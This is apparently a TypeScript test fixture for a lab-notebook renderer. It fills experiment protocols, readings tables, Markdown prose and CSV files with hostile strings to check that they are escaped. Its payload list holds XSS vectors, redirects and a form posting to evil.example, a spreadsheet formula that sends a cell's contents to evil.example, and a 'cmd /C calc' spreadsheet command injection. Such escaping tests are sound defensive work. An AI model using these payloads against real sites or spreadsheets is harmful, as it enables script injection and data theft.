// Hostile texts, and notes that carry one of them in every place where a note holds text.

/** Each would do harm, or change the page's structure, if it reached a page as markup. */
export const hostileTexts: Readonly<Record<string, string>> = {
  script: '<script>alert(1)</script>',
  'script in capitals': '<SCRIPT SRC=//evil.example/x.js></SCRIPT >',
  'quote and image': '"><img src=x onerror=alert(1)>',
  'single quote and handler': '\' onmouseover=\'alert(1)',
  'backquote and handler': '` onfocus=alert(1) autofocus x=`',
  'end of style': '</style><script>alert(1)</script>',
  'end of title': '</title></head><body onload=alert(1)>',
  'end of svg': '</svg></text><script>alert(1)</script>',
  'end of code': '</code></pre></data></td></table><script>alert(1)</script>',
  svg: '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  'foreign object': '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  math: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  frame: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  'style element': '<style>*{background:url(http://evil.example/x)}</style>',
  base: '<base href="http://evil.example/">',
  refresh: '<meta http-equiv="refresh" content="0;url=http://evil.example">',
  form: '<form action="http://evil.example"><input name=a autofocus onfocus=alert(1)></form>',
  'script address': 'javascript:alert(1)',
  'link to a script': '[x](javascript:alert(1)) [y](<java\tscript:alert(1)>) [z](&#106;avascript:alert(1)) <javascript:alert(1)>',
  'link to data': '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [v](vbscript:x)',
  'image of a script': '![x](javascript:alert(1)) ![y](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) ![z](http://evil.example/pixel.gif)',
  'image with a title': '![x](data:image/png;base64,AAAA "x\\" onerror=\\"alert(1)")',
  'anchor with a hidden scheme': '<a href="jav&#x09;ascript:alert(1)">x</a>',
  'entities as marks': '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  'end of comment': '--><script>alert(1)</script><!--',
  'open comment': '<!-- <!--> <!--->',
  'character data': ']]><script>alert(1)</script><![CDATA[',
  template: '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 1 %> #{1}',
  'line separators': 'a\u2028alert(1)\u2029b\u0085c',
  'null and controls': 'a\u0000<b onclick=alert(1)>\u0008\u001B[31mred\u007F',
  'right to left': '\u202Egnp.exe\u202C \u2066\u2067x',
  'lone surrogates': '\uD800<b>\uDC00',
  'spreadsheet formula': '=HYPERLINK("http://evil.example/?"&A1,"x")',
  'spreadsheet command': '@SUM(1+1)*cmd|\' /C calc\'!A0',
  quotes: '"\'`<>&\\',
  'a long word': '<'.repeat(3000),
};

/** All of them in two long texts, for the many places that need a note of their own. */
export const allHostileTexts: readonly string[] = [0, 1].map((half) => Object.values(hostileTexts).filter((text, index) => index % 2 === half && text.length < 1000).join(' '));

/** YAML text in double quotes. */
const yaml = (text: string): string => JSON.stringify(text);
/** A claim's words or a cell: no braces, no line breaks. */
const oneWord = (text: string): string => text.replace(/[\s{};]+/g, '_');
const oneLine = (text: string): string => text.replace(/[\r\n]+/g, ' ');

/** A note whose every free text is the given one; whatever the text, its structure is the same and the plan can be read. */
export function noteOfTexts(text: string): string {
  const t = yaml(text);
  const said = oneLine(text);
  return `# Heading ${said}

\`\`\`protocol
title: ${t}
question: ${t}
hypothesis: ${t}
by: ${t}
licence: ${t}
place: {name: ${t}, latitude: 52.51, longitude: 6.09, elevation: 4 m, time zone: Europe/Amsterdam}
tanks:
  mat: {role: treatment, label: ${t}, size: 50 x 30 x 32 cm, water depth: 28 cm, running since: ${t}, plants: ${t}, animals: ${t}, equipment: ${t}}
  open: {role: control, label: ${yaml(`open ${text}`)}, like: mat, plants: ${yaml(`no ${text}`)}}
differs: [plants]
schedule: {start: 2026-03-14 20:00, light off: 22:00, light on: 2026-03-15 09:30, end: 2026-03-15 00:30, every: 30 min}
events:
  - {at: 21:15, what: ${t}, tanks: [mat]}
measure:
  DO: {what: dissolved oxygen, unit: mg/L, with: ${t}, accuracy: 0.1 mg/L, resolution: 0.01 mg/L, calibrated: ${t}}
  T: {what: water temperature, unit: degC, with: ${t}, accuracy: 0.2 degC}
  P: {what: air pressure, unit: hPa, with: ${t}, in: room, level: station, accuracy: 0.5 hPa}
  mood: {what: behaviour, with: ${t}, scale: [calm, ${yaml(oneWord(text))}]}
equalise:
  - {step: ${t}, why: ${t}, done: ${t}}
  - {step: ${t}, accept: "abs(mat.T - open.T) <= 0.5 degC"}
limits:
  - {for: ${t}, quantity: DO, at least: 4 mg/L, source: ${t}}
  - {for: ${yaml(`other ${text}`)}, quantity: T, at most: 28 degC, source: ${t}}
stop if:
  - {when: mat.DO < 3 mg/L, do: ${t}, outcome: ${t}}
seed: ${t}
repeats: ${t}
\`\`\`

\`\`\`readings ${oneWord(text).slice(0, 40).replace(/`/g, '')}
time   mat.DO      mat.T  open.DO  open.T  room.P  mat.mood
20:00    8.21        24.9     8.31    24.7  1009.4  calm   ; ${said}
20:30    8.24->8.23  24.9     8.30    24.7  1009.2  -      ; ${said}
21:00    (8.00)      24.9     8.30?   24.7  1009.1  -      ; ${said}
21:30    8.25        24.8     8.29    24.6  1009.0  -
22:00    8.26        24.8     8.29    24.6  1008.9  calm
22:30    8.02        24.8     8.26    24.6  1008.8  -
00:30    7.31        24.6     8.22    24.4  1008.1  calm
\`\`\`

\`\`\`values ${oneWord(text).slice(0, 40).replace(/`/g, '')}
first-loss = percent-fall(mat.DO, light-off..22:30)
\`\`\`

Lost {2.9 % = first-loss}; {${oneLine(text).replace(/[{}`\\]/g, '_')} fell if min(mat.DO) > 1 mg/L}, {4.0 mg/L = stated ${yaml(said)}} and {${oneLine(text).replace(/[{}`"\\]/g, '_')} = stated ${yaml(said)}}.

\`\`\`figure ${oneWord(text).slice(0, 40).replace(/`/g, '')}
show: [mat.DO, open.DO]
title: ${t}
caption: ${t}
\`\`\`

\`\`\`limits
\`\`\`

\`\`\`methods
\`\`\`

\`\`\`results
\`\`\`
`;
}

/** Prose in every form of Markdown with the given text in it. Its structure depends on the text: it is Markdown. */
export function proseOfText(text: string): string {
  const said = oneLine(text);
  const address = encodeURI(said.replace(/[\uD800-\uDFFF]/g, '')).replace(/[()]/g, '');
  return `
## ${said}

${text}

A paragraph with ${said} in it, *${said}*, **${said}**, ~~${said}~~, \`${said.replace(/`/g, '')}\` and <b>${said}</b>.

> ${said}

- ${said}

| ${said.replace(/\|/g, '\\|')} | b |
|---|---|
| ${said.replace(/\|/g, '\\|')} | {2.9 % ${said.replace(/[{}`"\\|]/g, '_')} = first-loss} |

\`\`\`${said.replace(/[`\s]/g, '')}
${text}
\`\`\`

    ${said}

[${said}](http://example.org/${address} ${yaml(said)}) [x](${address}) [x](<${said.replace(/[<>]/g, '')}>) [ref][r] ![${said}](${address} ${yaml(said)}) ![${said}](<${said.replace(/[<>]/g, '')}>) <http://example.org/${address}>

[r]: <${said.replace(/[<>]/g, '')}> ${yaml(said)}

<div title="${said}">
${said}
</div>

Last {words ${oneLine(text).replace(/[{}`"\\]/g, '_')} if 1 == 1} and {9.9 ${oneWord(text).replace(/[`"\\]/g, '_')} = first-loss} and {? = ${oneLine(text).replace(/[{}`"\\]/g, '_')}}.
`;
}

/** Notes in which a name, a head, a cell, a formula or an option is the text: these have errors, and are shown all the same. */
export function brokenNotesOf(text: string): string[] {
  const t = yaml(text);
  const whole = noteOfTexts('plain');
  // Drawing takes long: only the notes that are about the figure have one.
  const bare = whole.replace(/```figure[^]*?```\n/, '');
  const put = (from: string, to: string): string => {
    const base = from.startsWith('show:') ? whole : bare;
    if (!base.includes(from)) throw new Error(`the note has no ${from}`);
    return base.replace(from, () => to);
  };
  return [
    put('title: "plain"', `${t}: x\ntitle: x`), put('  mat: {role', `  ${t}: {role: control}\n  mat: {role`), put('role: treatment', `role: ${t}`),
    put('time zone: Europe/Amsterdam', `time zone: ${t}`), put('unit: mg/L', `unit: ${t}`), put('what: dissolved oxygen', `what: ${t}`), put('start: 2026-03-14 20:00', `start: ${t}`),
    put('differs: [plants]', `differs: [${t}]`), put('differs: [plants]', `differs: [plants]\naccepted: [${t}]`), put('differs: [plants]', `differs: [plants]\nsealed: ${t}`),
    put('differs: [plants]', `differs: [plants]\norder: [${t}]`), put('differs: [plants]', `differs: [plants]\nlanguage: ${t}`), put('differs: [plants]', `differs: [plants]\n${oneLine(text)}`),
    put('{at: 21:15, what', `{at: 21:15, id: ${t}, what`), put('{when: mat.DO < 3 mg/L', `{when: ${t}`),
    put('mat.mood\n', `mat.mood  ${oneWord(text)}\n`), put('8.25 ', `${oneWord(text)} `), put('20:30 ', `${oneWord(text)} `), put('time   mat.DO', `time   mat.DO[${oneWord(text)}]`),
    put('22:30    8.02', `# ${oneLine(text)}\n22:30    8.02`), put('22:30    8.02', `# sealed ${oneLine(text)}\n22:30    8.02`),
    put('first-loss = percent', `${oneLine(text)} = 1\nfirst-loss = percent`), put('first-loss = percent-fall(mat.DO, light-off..22:30)', `first-loss = ${oneLine(text)}`),
    put('show: [mat.DO, open.DO]', `show: [mat.DO, open.DO]\n${t}: x`), put('show: [mat.DO, open.DO]', `show: [${t}]`), put('show: [mat.DO, open.DO]', `show: [mat.DO]\nfrom: ${t}`), put('show: [mat.DO, open.DO]', oneLine(text)),
    put('```limits\n', `\`\`\`limits\nfor: ${t}\n`), put('```methods\n', `\`\`\`methods\n${t}: ${t}\n`), put('```results\n', `\`\`\`summary\n${t}: ${t}\n`),
  ];
}

/** A note whose readings come from a file, with the text as its path, its heads and its cells. */
export function fileNoteOf(text: string): { note: string; path: string; file: string } {
  const path = `${oneWord(text).replace(/[:/\\]/g, '_').slice(0, 60)}.csv`;
  const cell = `"${text.replace(/"/g, '""')}"`;
  const note = noteOfTexts('plain').replace(/```values/, () => `\`\`\`readings\nfrom: ${yaml(path)}\ncolumns:\n  Timestamp: time\n  ${yaml(`Oxygen ${text}`)}: mat.DO@probe\n\`\`\`\n\n\`\`\`values`);
  return { note, path, file: `Timestamp,"Oxygen ${text.replace(/"/g, '""')}",${cell}\n2026-03-14 20:00:00,8.20,${cell}\n2026-03-14 20:30:00,${cell},${cell}\n2026-03-14 21:00:00,8.22,${cell}\n` };
}
